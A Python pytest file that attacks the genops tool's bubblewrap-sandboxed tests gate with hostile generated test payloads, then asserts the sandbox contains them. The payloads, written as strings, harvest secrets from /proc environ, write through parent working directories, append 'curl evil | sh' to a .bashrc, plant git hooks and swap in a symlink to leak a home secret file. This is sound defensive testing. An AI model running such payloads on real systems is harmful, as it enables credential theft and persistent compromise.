"""A hostile generated test suite against the real tests gate: it runs under bubblewrap and reaches
nothing outside its scratch folder.

Each attack is a generated test file carrying one payload, run through `TestsGate.check` in a
process started from the workspace root with secrets in its environment (as genops is), on a tiny
tree staged inside a real workspace (a git repository made by `genops init`). The payload never
fails on purpose: it tries, and prints what it saw (`ATTACK {...}` lines, pytest runs with `-s`),
so the test can assert on what the suite could see as well as on the gate's verdict, and that the
workspace (everything outside `.genops/runs`, `.git` included) and the home folder are unchanged.
Payloads aim their writes only inside the test's own folder, so a broken sandbox harms nothing else.
"""

from __future__ import annotations

import hashlib
import json
import os
import socket
import subprocess
import sys
import textwrap
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from release_helpers import make_workspace, workspace

import genops
from genops.gates.base import GateContext, GateResult
from genops.gates.sandbox import allowlist_env, probe
from genops.workspace.config import check_env_names
from genops.gates.traceability import TraceabilityGate
from genops.gates.venvs import ensure_venv
from genops.workspace import config

PYPROJECT = '[project]\nname = "t"\nversion = "0"\n[project.optional-dependencies]\ntest = ["pytest"]\n'
COMMAND = "python -m pytest -q -s -p no:cacheprovider"
SECRETS = {"DATABASE_URL": "postgres://admin:hunter2-db@db.internal/prod",
           "GH_PAT": "ghp_secretpat0000000000000000000000000",
           "FOO_TOKEN": "tok-secret-foo-42", "X_PASS": "pass-secret-x-42",
           "SLACK_WEBHOOK_URL": "https://hooks.slack.com/services/T000/B000/secretwebhook42",
           "OPENAI_API_KEY": "sk-secret-openai-42"}

REPORT = '''
import json, os, sys
def report(**facts):
    print("ATTACK " + json.dumps(facts), flush=True)
def attempt(fn):
    try:
        fn()
        return "ok"
    except Exception as exc:
        return type(exc).__name__
'''

PAYLOADS = {
    # the workspace through the parent's working directory (genops runs from the workspace root);
    # writes are aimed only inside this test's own folder, so a broken sandbox harms nothing else
    "proc_cwd": '''
def test_attack():
    cwds, wrote = {}, []
    for pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
        try:
            cwds[pid] = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            continue
        if cwds[pid].startswith(ARENA) and attempt(
                lambda: open(f"/proc/{pid}/cwd/PWNED", "w").write("x")) == "ok":
            wrote.append(pid)
    report(ppid=os.getppid(), cwds=cwds, wrote=wrote)
''',
    "absolute_path": '''
def test_attack():
    report(workspace_visible=os.path.exists(WS),
           writes=[attempt(lambda: open(WS + "/PWNED", "w").write("x")),
                   attempt(lambda: open(WS + "/specs/requirements.md", "a").write("pwned")),
                   attempt(lambda: os.makedirs(WS + "/generated/evil"))])
''',
    "home": '''
def test_attack():
    home = os.environ.get("HOME", "")
    report(home=home, real_home_visible=os.path.exists(REAL_HOME),
           writes=[attempt(lambda: open(os.path.join(home, "PWNED"), "w").write("x")),
                   attempt(lambda: open(REAL_HOME + "/.bashrc", "a").write("curl evil | sh"))])
''',
    "environ": '''
def test_attack():
    seen = dict(os.environ)
    for pid in ["self", str(os.getppid()), "1"] + [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            raw = open(f"/proc/{pid}/environ", "rb").read().decode(errors="replace")
        except OSError:
            continue
        for item in raw.split("\\0"):
            if "=" in item:
                key, value = item.split("=", 1)
                seen[key] = value
    report(names=sorted(seen), values=sorted(seen.values()))
''',
    "network": '''
import socket
def connect(host, port):
    with socket.create_connection((host, port), timeout=3):
        pass
def test_attack():
    report(loopback=attempt(lambda: connect("127.0.0.1", PORT)),
           host=attempt(lambda: connect(HOST, HOST_PORT)) if HOST else "no address",
           own_loopback=attempt(lambda: socket.socket().bind(("127.0.0.1", 0))))
''',
    "git_hook": '''
def plant(hooks):
    if not os.path.realpath(hooks).startswith(ARENA):
        raise PermissionError("not this test's folder: left alone")
    os.makedirs(hooks, exist_ok=True)
    path = os.path.join(hooks, "post-commit")
    with open(path, "w") as out:
        out.write("#!/bin/sh\\ntouch " + WS + "/HOOK-RAN\\n")
    os.chmod(path, 0o755)
def test_attack():
    tried = [attempt(lambda: plant(WS + "/.git/hooks")),
             attempt(lambda: plant(f"/proc/{os.getppid()}/cwd/.git/hooks"))]
    report(tried=tried, workspace_visible=os.path.exists(WS + "/genops.toml"))
''',
    # a link left where the gate collects its evidence: copying through it would leak a host file
    "junit_link": '''
import atexit
def swap():
    for name in os.listdir(".."):
        if name == "junit.xml":
            os.remove("../junit.xml")
            os.symlink(REAL_HOME + "/secret.txt", "../junit.xml")
atexit.register(swap)
def test_attack():
    report(armed=True)
''',
}


def _bwrap_or_skip() -> None:
    found = probe("bwrap")
    if not found.ok:
        pytest.skip(found.message)


def _host_address() -> str | None:
    """A non-loopback IPv4 address of this host, if it has one (no packet is sent)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe_socket:
        try:
            probe_socket.connect(("10.255.255.255", 1))
        except OSError:
            return None
        address = str(probe_socket.getsockname()[0])
    return None if address.startswith("127.") or address == "0.0.0.0" else address


def _listener(host: str) -> socket.socket:
    server = socket.socket()
    server.bind((host, 0))
    server.listen(8)
    server.setblocking(False)
    return server


def _accepted(server: socket.socket) -> bool:
    try:
        conn, _ = server.accept()
    except BlockingIOError:
        return False
    conn.close()
    return True


def snapshot(root: Path, skip: str | None = ".genops/runs") -> dict[str, str]:
    """Every path under root (a skipped subfolder aside) with its type, mode and content hash."""
    found: dict[str, str] = {}
    for dirpath, dirnames, filenames in os.walk(root):
        rel_dir = Path(dirpath).relative_to(root).as_posix()
        if skip and (rel_dir == skip or rel_dir.startswith(skip + "/")):
            dirnames[:] = []
            continue
        for name in dirnames + filenames:
            path = Path(dirpath) / name
            st = path.lstat()
            digest = hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() \
                and not path.is_symlink() else os.readlink(path) if path.is_symlink() else "dir"
            rel = path.relative_to(root).as_posix()
            if rel != skip:
                found[rel] = f"{st.st_mode:o}:{digest}"
    return found


class Arena:
    """A workspace, a home folder with a secret, secrets in the environment, two listeners."""

    def __init__(self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        self.root = make_workspace(tmp_path)
        ensure_venv(["pytest"])  # built (once per session) before HOME and the snapshots move
        self.home = tmp_path / "home"
        self.home.mkdir()
        (self.home / ".bashrc").write_text("# mine\n")
        (self.home / "secret.txt").write_text("HOME-SECRET-42\n")
        monkeypatch.setenv("HOME", str(self.home))
        for key, value in SECRETS.items():
            monkeypatch.setenv(key, value)
        self.loopback = _listener("127.0.0.1")
        self.host = _host_address()
        self.outside = _listener(self.host) if self.host else None
        self.run = self.root / ".genops" / "runs" / "attack"

    def close(self) -> None:
        self.loopback.close()
        if self.outside is not None:
            self.outside.close()

    def constants(self) -> str:
        return (f"WS = {str(self.root)!r}\nARENA = {str(self.root.parent)!r}\nREAL_HOME = {str(self.home)!r}\n"
                f"PORT = {self.loopback.getsockname()[1]}\nHOST = {self.host!r}\n"
                f"HOST_PORT = {self.outside.getsockname()[1] if self.outside else 0}\n")

    def stage(self, payload: str) -> Path:
        staged = self.run / "staged"
        (staged / "tests").mkdir(parents=True)
        (staged / "pyproject.toml").write_text(PYPROJECT)
        (staged / "tests" / "test_attack.py").write_text(
            self.constants() + REPORT + textwrap.dedent(payload))
        return staged

    def gate(self, payload: str, allow_unsandboxed: bool = False,
             **options: Any) -> tuple[GateResult, list[dict[str, Any]]]:
        """Run the real tests gate the way genops does: in a process started from the workspace
        root with the secrets in its environment (so /proc/<pid>/environ holds them)."""
        staged = self.stage(payload)
        env = {**os.environ, "PYTHONPATH": str(Path(genops.__file__).parent.parent)}
        env.pop("GENOPS_ALLOW_UNSANDBOXED", None)
        if allow_unsandboxed:
            env["GENOPS_ALLOW_UNSANDBOXED"] = "1"
        proc = subprocess.run([sys.executable, "-c", GATE_CHILD, str(self.root), str(staged),
                               str(self.run / "evidence"), COMMAND, json.dumps(options)],
                              cwd=self.root, env=env, capture_output=True, text=True, timeout=300)
        assert proc.returncode == 0, proc.stderr
        result = GateResult(**json.loads(proc.stdout.splitlines()[-1]))
        output = (self.run / "evidence" / "tests" / "output.txt").read_text()
        reports = [json.loads(line.split("ATTACK ", 1)[1]) for line in output.splitlines()
                   if "ATTACK {" in line]
        return result, reports


GATE_CHILD = """
import json, sys
from pathlib import Path
from genops.gates.base import GateContext
from genops.gates.tests import TestsGate
from genops.workspace import load_workspace
root, staged, evidence, command, options = sys.argv[1:]
ctx = GateContext(workspace=load_workspace(Path(root)), staged=Path(staged), previous=None,
                  evidence_dir=Path(evidence))
r = TestsGate(command, 120, True, True, **json.loads(options)).check(ctx)
print(json.dumps({"gate": r.gate, "verdict": r.verdict, "summary": r.summary, "data": r.data,
                  "facts": r.facts}))
"""


@pytest.fixture
def arena(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Arena]:
    made = Arena(tmp_path, monkeypatch)
    yield made
    made.close()


def _unchanged(arena: Arena, before: dict[str, str], home: dict[str, str]) -> None:
    assert snapshot(arena.root) == before
    assert snapshot(arena.home, skip=None) == home
    assert not _accepted(arena.loopback), "the parent's loopback listener was reached"
    if arena.outside is not None:
        assert not _accepted(arena.outside), "the host's network address was reached"


@pytest.mark.parametrize("attack", sorted(PAYLOADS))
def test_hostile_suite_reaches_nothing_outside_its_scratch(arena: Arena, attack: str) -> None:
    _bwrap_or_skip()
    before, home = snapshot(arena.root), snapshot(arena.home, skip=None)
    result, reports = arena.gate(PAYLOADS[attack])
    _unchanged(arena, before, home)
    assert result.data["sandbox"] == "bwrap" and result.facts["sandbox"] == "bwrap"
    if attack == "junit_link":  # the link is refused: no evidence, so the gate cannot pass
        assert result.verdict == "fail" and "JUnit file is missing" in result.summary
        kept = arena.run / "evidence" / "tests" / "junit.xml"  # genops's own, from its reporter
        assert not kept.is_symlink() and "HOME-SECRET" not in kept.read_text(encoding="utf-8")
        return
    assert result.verdict == "pass", result.summary
    (seen,) = reports
    EXPECT[attack](arena, seen)


def _proc_cwd(arena: Arena, seen: dict[str, Any]) -> None:
    assert seen["ppid"] in (0, 1)  # a fresh PID namespace: genops is not the parent it sees
    assert not any(str(arena.root) in cwd for cwd in seen["cwds"].values())
    assert seen["wrote"] == []


def _absolute(arena: Arena, seen: dict[str, Any]) -> None:
    assert seen["workspace_visible"] is False
    assert seen["writes"][:2] != ["ok", "ok"]  # makedirs may succeed: on the private /tmp


def _home(arena: Arena, seen: dict[str, Any]) -> None:
    assert seen["home"].endswith("/home") and seen["home"] != str(arena.home)
    assert seen["writes"][0] == "ok"  # its own HOME, inside the scratch folder
    assert seen["real_home_visible"] is False and seen["writes"][1] != "ok"


def _environ(arena: Arena, seen: dict[str, Any]) -> None:
    assert not set(SECRETS) & set(seen["names"])
    assert not set(SECRETS.values()) & set(seen["values"])
    output = (arena.run / "evidence" / "tests" / "output.txt").read_text()
    assert not [v for v in SECRETS.values() if v in output]


def _network(arena: Arena, seen: dict[str, Any]) -> None:
    assert seen["loopback"] != "ok" and seen["host"] != "ok"
    assert seen["own_loopback"] == "ok"  # the suite's own redis-server can still listen


def _git_hook(arena: Arena, seen: dict[str, Any]) -> None:
    assert seen["workspace_visible"] is False  # a plant lands, if anywhere, on the private /tmp
    assert not list((arena.root / ".git" / "hooks").glob("post-commit"))


EXPECT = {"proc_cwd": _proc_cwd, "absolute_path": _absolute, "home": _home,
          "environ": _environ, "network": _network, "git_hook": _git_hook}


def test_allowlist_environment_applies_without_the_sandbox_too(arena: Arena) -> None:
    before, home = snapshot(arena.root), snapshot(arena.home, skip=None)
    own_only = PAYLOADS["environ"].replace('["self", str(os.getppid()), "1"] + '
                                                             '[p for p in os.listdir("/proc") '
                                                             'if p.isdigit()]', '["self"]')
    assert own_only != PAYLOADS["environ"]  # without bubblewrap /proc/$PPID/environ is readable
    result, (seen,) = arena.gate(own_only, sandbox="off", allow_unsandboxed=True)
    assert result.verdict == "pass" and result.facts["sandbox"] == "none"
    assert '[no sandbox: [gates.tests] sandbox = "off"]' in result.summary
    assert not set(SECRETS) & set(seen["names"])
    assert set(seen["names"]) <= {"PATH", "LANG", "LC_ALL", "HOME", "TMPDIR", "PYTHONPATH",
                                  "PYTHONDONTWRITEBYTECODE", "PYTEST_CURRENT_TEST", "PYTEST_VERSION",
                                  "GENOPS_REPORT_FD", "GENOPS_TRACE_ROOT", "PWD"}
    _unchanged(arena, before, home)


@pytest.mark.parametrize("policy, bwrap, allow, verdict, sandbox, words", [
    ("required", "/nonexistent/bwrap", False, "fail", "none", "sandbox is required but bubblewrap"),
    # "preferred" no longer falls back: a suite without bubblewrap read secrets and planted hooks
    ("preferred", "/nonexistent/bwrap", False, "fail", "none", "sandbox is required but bubblewrap"),
    # "off" from genops.toml alone is refused: the file may come from someone else's repository
    ("off", "/nonexistent/bwrap", False, "fail", "none", "--allow-unsandboxed"),
    ("off", "/nonexistent/bwrap", True, "pass", "none", '[no sandbox: [gates.tests] sandbox = "off"]'),
    ("required", "bwrap", False, "pass", "bwrap", "1 passed"),
    ("preferred", "bwrap", False, "pass", "bwrap", "1 passed"),
])
def test_sandbox_policy(arena: Arena, policy: str, bwrap: str, allow: bool, verdict: str,
                        sandbox: str, words: str) -> None:
    if bwrap == "bwrap":
        _bwrap_or_skip()
    result, reports = arena.gate("def test_ok():\n    report(ran=True)\n", sandbox=policy,
                                 bwrap=bwrap, allow_unsandboxed=allow)
    assert (result.verdict, result.facts["sandbox"]) == (verdict, sandbox), result.summary
    assert words in result.summary
    assert reports == ([] if verdict == "fail" else [{"ran": True}])  # required: never ran
    log = (arena.run / "evidence" / "tests" / "output.txt").read_text()
    assert f"# sandbox: {sandbox}" in log


@pytest.mark.parametrize("environ, names, expected", [
    ({"PATH": "/x", "LANG": "de_DE.UTF-8", "DATABASE_URL": "pg://", "FOO": "1"}, [],
     {"LANG": "de_DE.UTF-8"}),
    ({"DATABASE_URL": "pg://", "FOO_TOKEN": "t"}, ["DATABASE_URL"], {"DATABASE_URL": "pg://"}),
    ({"LC_ALL": "C.UTF-8", "MISSING_OK": "x"}, ["ABSENT"], {"LC_ALL": "C.UTF-8"}),
    ({"PATH": "/opt/redis/bin"}, ["PATH"], {"PATH": "/opt/redis/bin"}),
    ({}, [], {"LANG": "C.UTF-8"}),
])
def test_allowlist_env_table(tmp_path: Path, environ: dict[str, str], names: list[str],
                             expected: dict[str, str]) -> None:
    env = allowlist_env(environ, names, home=tmp_path / "h", tmpdir=tmp_path / "t",
                        python="/venv/bin/python")
    fixed = {"HOME": str(tmp_path / "h"), "TMPDIR": str(tmp_path / "t"),
             "PYTHONDONTWRITEBYTECODE": "1", "LANG": "C.UTF-8",
             "PATH": "/venv/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"}
    assert env == {**fixed, **expected}


@pytest.mark.parametrize("names, error", [
    (["DATABASE_URL", "REDIS_URL"], None),
    (["HOME"], "set by genops"),
    (["GENOPS_VENV_CACHE"], "set by genops"),
    (["NOT A NAME"], "not an environment variable name"),
    (["X=1"], "not an environment variable name"),
])
def test_env_setting_is_validated(names: list[str], error: str | None) -> None:
    if error is None:
        assert config.TestGateConfig(env=names).env == names
        assert check_env_names(names) == names
        return
    with pytest.raises(ValueError, match=error):
        config.TestGateConfig(env=names)


@pytest.mark.parametrize("tests, verdict, summary, skipped", [
    ("import pytest\ndef test_a(): pass\ndef test_b(): pass\n"
     "@pytest.mark.skip(reason='no redis')\ndef test_c(): pass\n", "pass", "2 passed, 1 skipped", 1),
    ("import pytest\n@pytest.mark.skip(reason='x')\ndef test_a(): pass\n"
     "@pytest.mark.xfail(reason='y')\ndef test_b(): assert False\n", "fail",
     "no test passed (0 passed, 2 skipped)", 2),
    ("import pytest\ndef test_a(): pass\ndef test_b(): assert False\n"
     "@pytest.mark.skip(reason='x')\ndef test_c(): pass\n", "fail",
     "1 of 3 tests failed (first: tests.test_attack::test_b: assert False; 1 failed, 1 passed, "
     "1 skipped)", 1),
])
def test_counts_come_from_junit_outcomes(arena: Arena, tests: str, verdict: str,
                                         summary: str, skipped: int) -> None:
    result, _ = arena.gate(tests)
    assert result.verdict == verdict
    assert result.summary.split(" [no sandbox")[0] == summary
    assert result.facts["skipped"] == skipped and result.facts["sandbox"] == "bwrap"


TRACE_SPECS = ("# Requirements\n- **REQ-T-1** one.\n- **REQ-T-2** two.\n- **REQ-T-3** three.\n"
               "- **REQ-T-4** four.\n")
TRACE_TESTS = '''
import pytest
def helper():  # REQ-T-4 (a helper is not a test)
    return 1
@pytest.mark.req("REQ-T-1")
def test_one():
    assert helper() == 1
@pytest.mark.skip(reason="needs redis")
def test_two():  # REQ-T-2
    pass
class TestThree:
    """REQ-T-3"""
    def test_fails(self):
        assert False
'''


@pytest.mark.parametrize("skipped, uncovered, verdict", [
    ("warn", "warn", "warn"), ("fail", "warn", "fail"), ("warn", "fail", "fail"),
])
def test_traceability_counts_only_passing_tests(arena: Arena, skipped: str, uncovered: str,
                                                verdict: str) -> None:
    (arena.root / "specs" / "requirements.md").write_text(TRACE_SPECS)
    toml = arena.root / "genops.toml"
    toml.write_text(toml.read_text().replace('skipped = "warn"', f'skipped = "{skipped}"')
                    .replace('uncovered = "warn"', f'uncovered = "{uncovered}"'))
    arena.gate(TRACE_TESTS)
    ctx = GateContext(workspace=workspace(arena.root), staged=arena.run / "staged", previous=None,
                      evidence_dir=arena.run / "evidence")
    result = TraceabilityGate().check(ctx)
    assert result.verdict == verdict, result.summary
    rows = {r["id"]: r for r in json.loads(
        (arena.run / "evidence" / "traceability.json").read_text())["requirements"]}
    assert {k: r["status"] for k, r in rows.items()} == {
        "REQ-T-1": "passed", "REQ-T-2": "skipped", "REQ-T-3": "failed", "REQ-T-4": "not run"}
    assert result.data["skipped_only"] == ["REQ-T-2"]
    assert result.data["uncovered"] == ["REQ-T-3", "REQ-T-4"]
    assert "1 requirement(s) only tested by skipped tests: REQ-T-2" in result.summary
    by_rule = {f.rule: f for f in result.findings if f.message.startswith("REQ-T-2")}
    assert by_rule["traceability/skipped"].severity == ("error" if skipped == "fail" else "warning")
